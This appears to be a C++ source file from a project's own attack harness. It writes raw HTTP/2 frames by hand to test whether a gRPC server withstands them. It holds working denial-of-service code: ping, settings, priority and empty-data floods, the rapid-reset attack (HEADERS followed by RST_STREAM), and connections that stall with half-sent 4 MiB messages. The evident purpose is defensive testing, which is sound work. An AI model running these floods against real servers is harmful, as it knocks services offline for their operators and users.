// The raw HTTP/2 modes of uma_remote_attacker (remote_attacker.cpp): frames written by hand, as
// no gRPC client would, against the wire's front (issue 35, findings 1 and 2).
//
//   frames KIND SECONDS CONNS   CONNS connections at once, each flooding KIND frames (ping,
//                               settings, reset: a new stream and its RST_STREAM, priority,
//                               empty-data) and connecting again whenever the server closes it,
//                               for SECONDS; prints "flooding" once under way, then how many
//                               connections the server closed and how many frames went out
//   unfinished CONNS STREAMS    CONNS connections, each starting STREAMS calls and sending half of
//                               a 4 MiB message on each (within HTTP/2's flow control), then
//                               stopping; prints how many bytes went out and how many of the
//                               connections the server closed, then holds them until killed

#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <map>
#include <string>
#include <thread>
#include <vector>

int raw_connect();  // remote_attacker.cpp
void hold();

namespace {

using namespace std::chrono_literals;

constexpr std::uint8_t data_frame = 0, headers_frame = 1, priority_frame = 2, rst_frame = 3,
                       settings_frame = 4, ping_frame = 6, window_update_frame = 8;

std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream,
                  const std::string& payload = {}) {
  const auto n = payload.size();
  std::string f(9, '\0');
  f[0] = static_cast<char>(n >> 16);
  f[1] = static_cast<char>(n >> 8);
  f[2] = static_cast<char>(n);
  f[3] = static_cast<char>(type);
  f[4] = static_cast<char>(flags);
  for (int i = 0; i < 4; ++i)
    f[5 + static_cast<std::size_t>(i)] = static_cast<char>(stream >> (24 - 8 * i));
  return f + payload;
}

/// HPACK: a literal header field without indexing, new name, no Huffman (names and values here
/// are shorter than 127 bytes).
std::string literal(const std::string& name, const std::string& value) {
  std::string out(1, '\0');
  out += static_cast<char>(name.size());
  out += name;
  out += static_cast<char>(value.size());
  out += value;
  return out;
}

/// The HEADERS frame of a call of `method` on `stream` (the request's body to follow).
std::string call_headers(std::uint32_t stream, const std::string& method) {
  const auto block = literal(":method", "POST") + literal(":scheme", "http") +
                     literal(":path", "/uma.wire.v1.Remote/" + method) +
                     literal(":authority", "localhost") +
                     literal("content-type", "application/grpc") + literal("te", "trailers");
  return frame(headers_frame, 0x4 /* END_HEADERS */, stream, block);
}

const std::string preface =
    std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + frame(settings_frame, 0, 0);

/// Sends all of `bytes`; false when the connection is gone (or sending stalled for 5 s).
bool send_all(int fd, const std::string& bytes) {
  std::size_t at = 0;
  while (at < bytes.size()) {
    const auto n = ::send(fd, bytes.data() + at, bytes.size() - at, MSG_NOSIGNAL);
    if (n <= 0)
      return false;
    at += static_cast<std::size_t>(n);
  }
  return true;
}

/// Reads what the server sent without waiting; false once it closed the connection.
bool drain(int fd) {
  char buffer[65536];
  while (true) {
    const auto n = ::recv(fd, buffer, sizeof buffer, MSG_DONTWAIT);
    if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR))
      return false;
    if (n < 0)
      return true;
  }
}

/// 100 frames of `kind`, streams numbered from `next_stream`.
std::string flood_batch(const std::string& kind, std::uint32_t& next_stream) {
  std::string out;
  for (int i = 0; i < 100; ++i) {
    if (kind == "ping") {
      out += frame(ping_frame, 0, 0, std::string(8, 'p'));
    } else if (kind == "settings") {
      out += frame(settings_frame, 0, 0);
    } else if (kind == "priority") {
      out += frame(priority_frame, 0, next_stream, std::string(5, '\0'));
    } else if (kind == "empty-data") {
      out += frame(data_frame, 0, 1);
    } else {  // reset: the rapid reset
      out += call_headers(next_stream, "GetStats") +
             frame(rst_frame, 0, next_stream, std::string("\0\0\0\x08", 4));
      next_stream += 2;
    }
  }
  return out;
}

/// One connection flooding until the server closes it or `until`; the frames it sent.
std::uint64_t flood_once(const std::string& kind, std::chrono::steady_clock::time_point until,
                         bool& closed) {
  const int fd = raw_connect();
  timeval five{5, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &five, sizeof five);
  std::uint64_t sent = 0;
  std::uint32_t stream = 1;
  closed = !send_all(fd, preface);
  while (!closed && std::chrono::steady_clock::now() < until) {
    closed = !send_all(fd, flood_batch(kind, stream)) || !drain(fd);
    sent += closed ? 0 : 100;
  }
  ::close(fd);
  return sent;
}

/// A connection sending half of a 4 MiB message on each of its streams, within the windows the
/// server grants.
struct half_sender {
  int fd = -1;
  std::int64_t connection_window = 65535;
  std::int64_t initial_window = 65535;
  std::map<std::uint32_t, std::int64_t> windows;  // per stream
  std::map<std::uint32_t, std::uint64_t> sent;    // per stream
  bool closed = false;
  std::string in;

  void read_frames() {
    char buffer[65536];
    while (true) {
      const auto n = ::recv(fd, buffer, sizeof buffer, MSG_DONTWAIT);
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) {
        closed = true;
        return;
      }
      if (n < 0)
        break;
      in.append(buffer, static_cast<std::size_t>(n));
    }
    while (in.size() >= 9) {
      const auto u = [&](std::size_t i) {
        return static_cast<std::uint32_t>(static_cast<unsigned char>(in[i]));
      };
      const std::size_t length = (u(0) << 16) | (u(1) << 8) | u(2);
      if (in.size() < 9 + length)
        return;
      const auto type = u(3), flags = u(4);
      const auto stream = ((u(5) << 24) | (u(6) << 16) | (u(7) << 8) | u(8)) & 0x7fffffffu;
      const auto p = [&](std::size_t i) { return u(9 + i); };
      if (type == settings_frame && (flags & 1) == 0) {
        for (std::size_t i = 0; i + 6 <= length; i += 6)
          if (((p(i) << 8) | p(i + 1)) == 4) {  // INITIAL_WINDOW_SIZE
            const std::int64_t size =
                (p(i + 2) << 24) | (p(i + 3) << 16) | (p(i + 4) << 8) | p(i + 5);
            for (auto& [s, w] : windows)
              w += size - initial_window;
            initial_window = size;
          }
        closed = closed || !send_all(fd, frame(settings_frame, 1, 0));
      } else if (type == window_update_frame && length == 4) {
        const std::int64_t inc = ((p(0) << 24) | (p(1) << 16) | (p(2) << 8) | p(3)) & 0x7fffffff;
        if (stream == 0)
          connection_window += inc;
        else if (windows.contains(stream))
          windows[stream] += inc;
      } else if (type == ping_frame && (flags & 1) == 0) {
        closed = closed || !send_all(fd, frame(ping_frame, 1, 0, in.substr(9, 8)));
      } else if (type == 7 /* GOAWAY */) {
        closed = true;
      }
      in.erase(0, 9 + length);
    }
  }

  /// Sends what the windows allow; true when every stream has sent its half.
  bool send_some(std::uint64_t half) {
    bool done = true;
    for (auto& [s, n] : sent) {
      if (n >= half)
        continue;
      done = false;
      auto& w = windows[s];
      const auto room = std::min<std::int64_t>(
          {w, connection_window, 16384, static_cast<std::int64_t>(half - n)});
      if (room <= 0)
        continue;
      std::string payload;
      if (n == 0) {  // the message's prefix: 4 MiB, uncompressed
        payload = std::string("\0\0\x40\0\0", 5);
        payload += std::string(static_cast<std::size_t>(room) - 5, 'u');
      } else {
        payload.assign(static_cast<std::size_t>(room), 'u');
      }
      if (!send_all(fd, frame(data_frame, 0, s, payload))) {
        closed = true;
        return true;
      }
      n += static_cast<std::uint64_t>(room);
      w -= room;
      connection_window -= room;
    }
    return done;
  }
};

}  // namespace

int http2_frames(const std::string& kind, int seconds, int conns) {
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  std::atomic<std::uint64_t> closed{0}, frames{0};
  std::vector<std::thread> threads;
  for (int i = 0; i < conns; ++i)
    threads.emplace_back([&] {
      while (std::chrono::steady_clock::now() < until) {
        bool was_closed = false;
        frames += flood_once(kind, until, was_closed);
        closed += was_closed ? 1 : 0;
      }
    });
  std::printf("flooding\n");
  std::fflush(stdout);
  for (auto& t : threads)
    t.join();
  std::printf("connections closed by the server: %llu, frames sent: %llu\n",
              static_cast<unsigned long long>(closed.load()),
              static_cast<unsigned long long>(frames.load()));
  return 0;
}

int http2_unfinished(int conns, int streams) {
  constexpr std::uint64_t half = 2u << 20;
  std::vector<half_sender> senders(static_cast<std::size_t>(conns));
  for (auto& h : senders) {
    h.fd = raw_connect();
    std::string start = preface;
    for (int i = 0; i < streams; ++i) {
      const auto s = static_cast<std::uint32_t>(2 * i + 1);
      start += call_headers(s, "Allocate");
      h.windows[s] = h.initial_window;
      h.sent[s] = 0;
    }
    h.closed = !send_all(h.fd, start);
  }
  const auto until = std::chrono::steady_clock::now() + 20s;
  bool all_done = false;
  while (!all_done && std::chrono::steady_clock::now() < until) {
    all_done = true;
    std::vector<pollfd> fds;
    for (auto& h : senders)
      if (!h.closed)
        fds.push_back({h.fd, POLLIN, 0});
    static_cast<void>(::poll(fds.data(), fds.size(), 20));
    for (auto& h : senders) {
      if (h.closed)
        continue;
      h.read_frames();
      all_done = (h.closed || h.send_some(half)) && all_done;
    }
  }
  // The server closes a connection when its bytes went past a bound: give the last ones a
  // second to arrive and be refused.
  const auto settle = std::chrono::steady_clock::now() + 1s;
  while (std::chrono::steady_clock::now() < settle) {
    std::vector<pollfd> fds;
    for (auto& h : senders)
      if (!h.closed)
        fds.push_back({h.fd, POLLIN, 0});
    if (fds.empty() || ::poll(fds.data(), fds.size(), 50) < 0)
      break;
    for (auto& h : senders)
      if (!h.closed)
        h.read_frames();
  }
  std::uint64_t bytes = 0;
  int closed = 0;
  for (auto& h : senders) {
    closed += h.closed ? 1 : 0;
    for (const auto& [s, n] : h.sent)
      bytes += n;
  }
  std::printf("unfinished: sent %llu bytes; connections closed by the server: %d of %d\n",
              static_cast<unsigned long long>(bytes), closed, conns);
  hold();
  return 0;
}
